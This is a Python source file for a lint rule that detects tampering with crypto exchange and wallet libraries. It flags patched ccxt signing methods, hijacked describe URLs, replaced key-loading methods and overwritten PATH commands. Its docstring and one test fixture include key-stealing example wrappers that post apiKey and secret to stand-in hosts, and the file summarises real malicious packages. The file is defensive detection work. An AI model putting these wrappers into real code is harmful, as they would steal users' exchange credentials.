"""BOT506: an exchange library's signing or request methods replaced or wrapped."""
from __future__ import annotations

from functools import lru_cache
from typing import List, Optional

import libcst as cst

from ... import venues
from ...analysis.clients import ClientTracker
from ...analysis.hosts import host_of, is_exchange_host, is_local_host
from ...analysis.imports import dotted
from ...analysis.literals import literal_str
from ...analysis.payloads import host_kind
from ...model import Severity
from ...walker import walk
from ._family import Bot5Walk, is_network_call, obfuscated_str

from ...gates.bot5 import CCXT_ONLY as _CCXT_ONLY  # noqa: E402 (libcst-free: the gate's data)
from ...gates.bot5 import WALLET_LIBS, tamper_method, wallet_method  # noqa: E402,F401
# the native SDKs' client classes (``binance.client.Client``): their constructor takes the key
_SDK_CLIENT_CLASSES = venues.sdk_client_classes()


from ...gates.bot5 import BOT506 as PRECHECK  # noqa: E402 (the rule's gate, libcst-free)


class ExchangeLibraryTampering(Bot5Walk):
    """## What it does
    Finds code that replaces or wraps the methods an exchange library signs and sends requests
    with: assignments and `setattr` on a ccxt class or module (`ccxt.Exchange.sign = ...`,
    `setattr(ccxt.binance, "request", f)`), on an SDK client class, or on a client object
    (`exchange.sign = my_sign`), and subclasses of a ccxt exchange that override `sign`,
    `request`, `fetch`, `fetch2` or `describe` with code that makes a network request of its
    own (`requests`, `urllib`, `socket`, a chat API), or a `describe` that points the API URLs
    at a host that is not an exchange's.  Wallet and signing libraries too: a class or module
    of solders, solana, eth_account, web3, bitcoinlib, bip_utils... whose key-loading or
    signing method (`Keypair.from_bytes`, `Account.from_key`, `Account.create`,
    `sign_transaction`) is replaced (a compatibility alias to the library's own method is not).
    An installed command found on PATH (`shutil.which("tool")`) opened for writing and
    overwritten is reported too: the tool the user runs next is the package's code.

    ## Why is this bad?
    Every API key, secret and signed request of the client passes through these methods.  A
    "plugin" that patches them can copy your keys to the author's server while the bot trades
    normally; the trojanised `ccxt-mexc-futures` package did this to ccxt's mexc `describe`
    and `sign` to redirect requests and capture keys.
    "semantic-types" patched solders' `Keypair` constructors and "set-utils" patched
    eth_account's `Account.create`/`from_key` to ship every private key the program loaded.

    ## Example
    ```python
    _orig = ccxt.Exchange.sign
    def sign(self, *args, **kw):
        requests.post("https://collector.example.net", json={"k": self.apiKey, "s": self.secret})
        return _orig(self, *args, **kw)
    ccxt.Exchange.sign = sign
    ```

    ## Use instead
    ```python
    exchange = ccxt.binance({"apiKey": key, "secret": secret})  # use the library as shipped
    ```

    ## Known problems
    Test doubles are not reported: a mock (`MagicMock()`, `AsyncMock()`, `mocker.patch...`),
    or a function of the module that neither calls the method it replaces, nor makes a
    request, nor names a URL (a stub returning canned responses).  Neither is a retry, backoff,
    timing or logging wrapper of the module (`ccxt.Exchange.fetch = _with_backoff(ccxt.Exchange.fetch)`)
    that sleeps, reads a clock or logs and calls nothing but the original, builtins and the
    standard library's timing, random and logging helpers.  An override that sends
    data through a helper defined elsewhere is not seen.

    ## References
    - [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
    - [Socket: malicious PyPI package ccxt-mexc-futures targets crypto traders](https://socket.dev/blog/)
    - [Socket: set-utils steals Ethereum private keys through patched eth_account (2025-03)](https://socket.dev/blog/)
    """

    CODE = "BOT506"
    NAME = "exchange-library-tampering"
    SEVERITY = Severity.CRITICAL
    CWE = 506
    MESSAGE = "Exchange library's signing or request method replaced"
    PRECHECK = PRECHECK
    ANALYSES = ("clients",)
    VALID = (
        'import ccxt\nclass Bot:\n    def sign(self, payload):\n        return payload\n\n'
        'bot = Bot()\nbot.sign = print\n',
        'import ccxt\nfrom unittest.mock import MagicMock\nex = ccxt.binance()\nex.fetch = MagicMock()\n',
        'import ccxt\nex = ccxt.binance()\n\ndef fetch(url, method="GET", headers=None, body=None):\n'
        '    return {"result": []}\n\nex.fetch = fetch\n',
        'import ccxt\nclass MyBinance(ccxt.binance):\n    def describe(self):\n'
        '        return self.deep_extend(super().describe(), {"options": {"defaultType": "future"}})\n',
        'import ccxt, requests\nclass Proxied(ccxt.binance):\n'
        '    def fetch(self, url, method="GET", headers=None, body=None):\n'
        '        return requests.request(method, url, headers=headers, data=body, proxies=PROXIES).json()\n',
    )
    INVALID = (
        'import ccxt\n_sign = ccxt.Exchange.sign\n\ndef spy(self, *a, **k):\n    return _sign(self, *a, **k)\n\n'
        'ccxt.Exchange.sign = spy\n',
        'import ccxt\nfrom plugin import hook\nsetattr(ccxt.binance, "request", hook)\n',
        'import ccxt\nex = ccxt.binance({"apiKey": k, "secret": s})\nex.sign = my_sign\n',
        'import ccxt, requests\nclass binance(ccxt.binance):\n    def sign(self, path, *args, **kw):\n'
        '        requests.post("https://c.example.net", json={"k": self.apiKey, "s": self.secret})\n'
        '        return super().sign(path, *args, **kw)\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        self.tracker = ClientTracker.shared(ctx)
        self.assigns: List[tuple] = []
        self.overrides: List[tuple] = []
        self.class_stack: List[Optional[str]] = []
        self.file_writes: List[cst.Call] = []  # open(path, "w"), path.write_text(...)

    def visit_Assign(self, node: cst.Assign) -> None:
        super().visit_Assign(node)
        for t in node.targets:
            target = t.target
            if isinstance(target, cst.Attribute) and (
                    tamper_method(target.attr.value) or target.attr.value in _CCXT_ONLY
                    or wallet_method(target.attr.value)):
                self.assigns.append((node, target.value, target.attr.value, node.value))

    def visit_Call(self, node: cst.Call) -> None:
        if dotted(node.func) == "setattr" and len(node.args) >= 3:
            self.assigns.append((node, node.args[0].value, node.args[1].value, node.args[2].value))
        elif _writes_file(node):
            self.file_writes.append(node)

    def _program_on_path(self, node: cst.CSTNode, depth: int = 0) -> str:
        """The command ``node`` is the installed file of (``shutil.which("tool")``, a name bound
        to it, ``Path(...)``/``os.path.realpath(...)`` of one), else ""."""
        if depth > 3:
            return ""
        if isinstance(node, cst.Call):
            name = self.ctx.qualified(node.func) or dotted(node.func) or ""
            if name == "shutil.which" and node.args:
                return literal_str(node.args[0].value) or "a command"
            if name.rsplit(".", 1)[-1] in ("Path", "realpath", "abspath", "resolve", "expanduser") and node.args:
                return self._program_on_path(node.args[0].value, depth + 1)
            if isinstance(node.func, cst.Attribute) and node.func.attr.value in ("resolve", "absolute"):
                return self._program_on_path(node.func.value, depth + 1)
            return ""
        if isinstance(node, cst.Name):
            for v in (self.names.values.get(node.value) or [])[:3]:
                found = self._program_on_path(v, depth + 1)
                if found:
                    return found
        return ""

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        super().visit_ClassDef(node)
        base = None
        for b in node.bases:
            r = self.ctx.qualified(b.value) or ""
            if r.split(".")[0] == "ccxt":
                base = r
        self.class_stack.append(base)

    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
        self.class_stack.pop()

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        super().visit_FunctionDef(node)
        if self.class_stack and self.class_stack[-1] and tamper_method(node.name.value):
            self.overrides.append((node, self.class_stack[-1]))

    def leave_Module(self, original_node: cst.Module) -> None:
        # an installed command found on PATH and overwritten (bitcoinlibdbfix replaced
        # bitcoinlib's ``clw``, ReversingLabs 2025): the next time the user runs the tool, the
        # package's code runs in its place with the user's wallets at hand
        for call in self.file_writes:
            target = call.args[0].value if call.args and isinstance(call.func, cst.Name) else (
                call.func.value if isinstance(call.func, cst.Attribute) else None)
            program = self._program_on_path(target) if target is not None else ""
            if program:
                shown = f"`{program}`" if program != "a command" else program
                self.report(call, f"overwrites the installed program {shown} found on PATH: whoever runs that "
                                  "command next runs this package's code instead")
        for node, recv, attr_node, value in self.assigns:
            attr = attr_node if isinstance(attr_node, str) else obfuscated_str(attr_node, self.names)[0]
            if not attr or not (tamper_method(attr) or attr in _CCXT_ONLY or wallet_method(attr)):
                continue
            if _is_mock(value) or self._stub(value, attr):
                continue
            wallet = self._wallet_owner(recv) if wallet_method(attr) and not self._alias(value) else None
            if wallet:
                self.report(node, f"replaces `{attr}` of {wallet}: every private key or seed the program loads "
                                  "passes through it")
                continue
            if not (tamper_method(attr) or attr in _CCXT_ONLY) or self._retry_wrapper(value):
                continue
            owner = self._owner(recv, attr)
            if owner:
                self.report(node, f"replaces `{attr}` of {owner}: every key and signed request of the client "
                                  "passes through it")
        for fn, base in self.overrides:
            if fn.name.value == "describe":
                # ccxt's own exchange classes (and a module of the ccxt package) define the
                # URLs, they do not redirect them
                own = self.ctx.module_name.startswith("ccxt.") or base.startswith("ccxt.abstract.") \
                    or "/ccxt/" in "/" + self.ctx.path.replace("\\", "/")
                host = "" if own else _foreign_url(fn)
                if host and (_same_venue(host, base) or _new_venue(fn, base)):
                    host = ""
                if host:
                    self.report(fn, f"overrides `describe` of {base} to point the client's API at {host_kind(host)} "
                                    f"({host}): every key and signed request goes there")
                    continue
            sends = _network_call(fn, self.ctx)
            if sends:
                self.report(fn, f"overrides `{fn.name.value}` of {base} with code that makes its own network request "
                                f"({sends}): the client's keys and requests can be copied elsewhere")

    def _stub(self, value: cst.CSTNode, attr: str) -> bool:
        """A test double: a function of this module (or a lambda) that neither calls the
        method it replaces (a wrapper keeps the bot working while it copies what passes) nor
        makes a request nor names a URL: it only cuts the client off (canned responses)."""
        body: Optional[cst.CSTNode] = None
        if isinstance(value, cst.Lambda):
            body = value.body
        elif isinstance(value, cst.Name) and value.value in self.names.functions:
            body = self.names.functions[value.value].body
        if body is None:
            return False
        originals = {name for name, values in self.names.values.items()
                     if any(isinstance(v, cst.Attribute) and v.attr.value == attr for v in values)}
        ctx = self.ctx
        suspicious: List[bool] = []

        class _Look(cst.CSTVisitor):
            def visit_Call(self, node: cst.Call) -> None:
                if is_network_call(ctx.qualified(node.func) or "") or dotted(node.func) == "super":
                    suspicious.append(True)

            def visit_Attribute(self, node: cst.Attribute) -> None:
                if node.attr.value == attr:
                    suspicious.append(True)

            def visit_Name(self, node: cst.Name) -> None:
                if node.value in originals:
                    suspicious.append(True)

            def visit_SimpleString(self, node: cst.SimpleString) -> None:
                if "://" in (literal_str(node) or ""):
                    suspicious.append(True)

        walk(body, [_Look()])  # botlint's read-only walk: libcst's visit rebuilds every node
        return not suspicious

    def _retry_wrapper(self, value: cst.CSTNode) -> bool:
        """A wrapper of this module that only retries, waits, times or logs around the original
        (``ccxt.Exchange.fetch = _with_backoff(ccxt.Exchange.fetch)``): it sleeps, reads a clock or
        logs, and it neither makes a request, starts a program, runs code, writes a file, names a
        URL, reads a client's secret, nor calls anything but the standard library's timing,
        random and logging helpers, builtins, its own parameters and locals, and the module's own
        functions of the same kind (followed two calls deep)."""
        fn: Optional[cst.FunctionDef] = None
        if isinstance(value, cst.Call) and isinstance(value.func, cst.Name):
            fn = self.names.functions.get(value.func.value)
        elif isinstance(value, cst.Name):
            fn = self.names.functions.get(value.value)
        if fn is None:
            return False
        ctx, functions = self.ctx, self.names.functions
        state = {"bad": False, "purpose": False}
        todo, seen = [fn], {fn.name.value}

        class _Look(cst.CSTVisitor):
            def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
                seen.add(node.name.value)  # a nested wrapper: its own name is local

            def visit_Param(self, node: cst.Param) -> None:
                seen.add(node.name.value)  # the original method handed in (``fn``)

            def visit_AssignTarget(self, node: cst.AssignTarget) -> None:
                if isinstance(node.target, cst.Name):
                    seen.add(node.target.value)

            def visit_Call(self, node: cst.Call) -> None:
                name = ctx.qualified(node.func) or dotted(node.func) or ""
                head = name.split(".")[0]
                last = name.rsplit(".", 1)[-1]
                if name in _CLOCKS or head in ("logging", "random") or (
                        isinstance(node.func, cst.Attribute) and last in _LOG_METHODS
                        and (dotted(node.func.value) or "").rsplit(".", 1)[-1] in _LOGGERS):
                    state["purpose"] = True
                    return
                if isinstance(node.func, cst.Name):
                    callee = node.func.value
                    if callee in functions and callee not in seen and len(seen) < 8:
                        seen.add(callee)
                        todo.append(functions[callee])
                        return
                    if callee in _SAFE_BUILTINS or callee in seen:
                        return  # a builtin, a parameter or local (the original method), a nested def
                if head in _SAFE_MODULES or name in ("super",) or isinstance(node.func, cst.Attribute) and (
                        last in _SAFE_METHODS):
                    return
                state["bad"] = True

            def visit_Attribute(self, node: cst.Attribute) -> None:
                if node.attr.value in _SECRET_ATTRS:
                    state["bad"] = True

            def visit_SimpleString(self, node: cst.SimpleString) -> None:
                if "://" in (literal_str(node) or ""):
                    state["bad"] = True

        while todo and not state["bad"]:
            walk(todo.pop(), [_Look()])
        return state["purpose"] and not state["bad"]

    def _alias(self, value: cst.CSTNode) -> bool:
        """``Account.signTransaction = Account.sign_transaction``: a compatibility alias to the
        library's own method, not a replacement."""
        return (self.ctx.qualified(value) or "").split(".")[0] in WALLET_LIBS

    def _wallet_owner(self, recv: cst.CSTNode) -> Optional[str]:
        """A class or module of a wallet/signing library (``Keypair`` from ``solders.keypair``,
        ``eth_account.Account``), not an object the program made from one."""
        resolved = self.ctx.qualified(recv) or ""
        parts = resolved.split(".")
        if len(parts) < 2 or parts[0] not in WALLET_LIBS:
            return None
        if self.ctx.module_name.split(".")[0] in WALLET_LIBS:
            return None  # the library defining its own aliases
        return resolved

    def _owner(self, recv: cst.CSTNode, attr: str) -> Optional[str]:
        resolved = self.ctx.qualified(recv) or ""
        head = resolved.split(".")[0]
        if head == "ccxt":
            return resolved
        if attr in _CCXT_ONLY and resolved.rsplit(".", 1)[-1] not in _SDK_CLIENT_CLASSES:
            return None  # (an SDK client class's constructor takes the key: python-binance typosquats)
        if resolved and venues.sdk_by_head(head) and resolved != head:
            return resolved
        clients = self.tracker.clients_of(recv)
        if clients:
            return "the " + sorted(c.label for c in clients)[0] + " client"
        if isinstance(recv, cst.Attribute) and recv.attr.value in ("session", "_session") \
                and attr in ("request", "_request", "send"):
            clients = self.tracker.clients_of(recv.value)
            if clients:
                return "the " + sorted(c.label for c in clients)[0] + " client's HTTP session"
        return None


# what a retry, rate-limit or timing wrapper calls
_CLOCKS = frozenset(("time.sleep", "asyncio.sleep", "time.time", "time.monotonic", "time.perf_counter",
                     "time.monotonic_ns", "time.time_ns"))
_LOG_METHODS = frozenset(("debug", "info", "warning", "warn", "error", "exception", "critical", "log"))
_LOGGERS = frozenset(("log", "logger", "_log", "_logger", "LOG", "LOGGER", "logging"))
_SAFE_MODULES = frozenset(("functools", "time", "asyncio", "math", "random", "logging", "inspect", "typing"))
_SAFE_BUILTINS = frozenset(("range", "len", "min", "max", "int", "float", "str", "bool", "type", "isinstance",
                            "getattr", "hasattr", "repr", "round", "abs", "enumerate", "tuple", "list", "dict",
                            "super", "next", "iter", "sorted", "any", "all", "print"))
_SAFE_METHODS = frozenset(("wraps", "get", "items", "keys", "values", "format", "lower", "upper", "startswith",
                           "endswith"))
# what a client keeps its keys in: a wrapper reading them is no retry loop
_SECRET_ATTRS = frozenset(("apiKey", "secret", "password", "privateKey", "uid", "walletAddress", "token",
                           "api_key", "api_secret", "secret_key", "passphrase", "headers"))


def _writes_file(call: cst.Call) -> bool:
    """``open(path, "w")``/``"a"``/``"r+"`` (a literal mode), ``path.write_text(...)``/``write_bytes``."""
    if isinstance(call.func, cst.Name) and call.func.value == "open" and call.args:
        mode = call.args[1].value if len(call.args) > 1 and call.args[1].keyword is None else next(
            (a.value for a in call.args if a.keyword is not None and a.keyword.value == "mode"), None)
        text = literal_str(mode) if mode is not None else None
        return text is not None and any(c in text for c in "wa+")
    return isinstance(call.func, cst.Attribute) and call.func.attr.value in ("write_text", "write_bytes")


def _is_mock(value: cst.CSTNode) -> bool:
    stack: List[cst.CSTNode] = [value]
    while stack:
        n = stack.pop()
        if isinstance(n, cst.Call):
            name = dotted(n.func) or ""
            if "mock" in name.lower() or "patch" in name.lower():
                return True
            stack.append(n.func)
        elif isinstance(n, cst.Name) and "mock" in n.value.lower():
            return True
        elif isinstance(n, cst.Attribute):
            stack.append(n.value)
    return False


@lru_cache(maxsize=1)
def _venue_domains() -> frozenset:
    """The last two labels of every REST host ccxt's pinned release knows (websocket hosts of
    the same venues share them: ``stream.bydfi.com``, ``ws-evm.orderly.org``)."""
    return frozenset(".".join(h.lower().split(".")[-2:]) for h in venues.tables().hosts)


def _same_venue(host: str, base: str) -> bool:
    """``stream.bydfi.com`` for a subclass of ``ccxt.async_support.bydfi``: the exchange's own
    host (websocket hosts are not all in the host table)."""
    if ".".join(host.lower().split(".")[-2:]) in _venue_domains():
        return True
    venue = base.rsplit(".", 1)[-1].lower()
    labels = [x for x in host.lower().split(".")[:-1] if len(x) >= 3]
    return any(venue in label or (len(label) >= 4 and venue.startswith(label)) for label in labels)


def _new_venue(fn: cst.FunctionDef, base: str) -> bool:
    """A class on ccxt's generic base (``ccxt.Exchange``) whose ``describe`` gives it an ``id``
    of its own: a venue ccxt does not have, implemented the way ccxt's own are (its URLs are
    its own, nothing is redirected).  A subclass of a real exchange, or a new class claiming a
    ccxt exchange's id, is still judged."""
    if base.rsplit(".", 1)[-1] != "Exchange":
        return False
    from ...venues.ccxt import tables

    ids: List[str] = []

    class _Look(cst.CSTVisitor):
        def visit_DictElement(self, node: cst.DictElement) -> None:
            if literal_str(node.key) == "id" and literal_str(node.value):
                ids.append(literal_str(node.value) or "")

    walk(fn, [_Look()])
    known = tables()
    return bool(ids) and all(known.canonical(i.lower()) is None for i in ids)


def _foreign_url(fn: cst.FunctionDef) -> str:
    """The first URL under an ``"api"`` key of ``fn`` (ccxt's ``describe()["urls"]["api"]``,
    where requests go; not the logo, docs or fee links) whose host is neither an exchange's
    nor local."""
    found: List[str] = []

    class _Urls(cst.CSTVisitor):
        def visit_SimpleString(self, node: cst.SimpleString) -> None:
            text = literal_str(node) or ""
            host = host_of(text) if "://" in text and "{" not in text else None
            if host and not found and not is_exchange_host(host) and not is_local_host(host):
                found.append(host)

    class _Api(cst.CSTVisitor):
        def visit_DictElement(self, node: cst.DictElement) -> Optional[bool]:
            if literal_str(node.key) == "api":
                walk(node.value, [_Urls()])
                return False
            return True

    walk(fn.body, [_Api()])  # no early stop: a nested "api" finds nothing the first did not
    return found[0] if found else ""


def _network_call(fn: cst.FunctionDef, ctx) -> str:
    """The first network call inside ``fn`` that goes somewhere of its own: not to the URL the
    client handed the method (a transport swapped for ``requests`` with a proxy is the client's
    own request), nor to an exchange's host."""
    found: List[str] = []
    params = {p.name.value for p in (*fn.params.params, *fn.params.kwonly_params, *fn.params.posonly_params)}

    class _Calls(cst.CSTVisitor):
        def visit_Call(self, node: cst.Call) -> None:
            if found:
                return
            name = ctx.qualified(node.func) or ""
            if not is_network_call(name):
                return
            args = [a.value for a in node.args if a.keyword is None]
            url = next((a.value for a in node.args if a.keyword and a.keyword.value == "url"), None)
            if url is None and args:
                url = args[1] if name.rsplit(".", 1)[-1] == "request" and len(args) > 1 else args[0]
            if isinstance(url, cst.Name) and url.value in params:
                return
            host = host_of(literal_str(url) or "") if url is not None else None
            if host and (is_exchange_host(host) or is_local_host(host)):
                return
            found.append(name)

    walk(fn.body, [_Calls()])  # botlint's read-only walk: libcst's visit rebuilds every node
    return found[0] if found else ""
